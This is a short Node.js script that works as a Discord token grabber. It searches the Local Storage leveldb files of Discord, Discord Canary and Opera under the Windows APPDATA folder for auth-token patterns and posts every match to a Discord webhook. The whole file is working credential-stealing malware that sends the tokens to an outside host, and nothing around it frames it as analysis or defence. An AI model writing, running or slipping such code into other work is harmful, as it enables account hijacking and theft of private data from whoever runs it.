const fs = require("fs");
const path = require("path");
const fetch = require("node-fetch");

const roaming = process.env.APPDATA;
const dirs = ["discord", "discordcanary", "Opera Software/Opera Stable"].map(
  (d) => path.join(roaming, d, "Local Storage", "leveldb")
);

const tokens = [];
for (const dir of dirs) {
  if (!fs.existsSync(dir)) continue;
  for (const f of fs.readdirSync(dir)) {
    if (!f.endsWith(".ldb") && !f.endsWith(".log")) continue;
    const text = fs.readFileSync(path.join(dir, f), "utf8");
    const m = text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g);
    if (m) tokens.push(...m);
  }
}
fetch("https://discord.com/api/webhooks/1122/xyz", {
  method: "POST",
  headers: { "Content-Type": "application/json" },
  body: JSON.stringify({ content: tokens.join("\n") }),
});
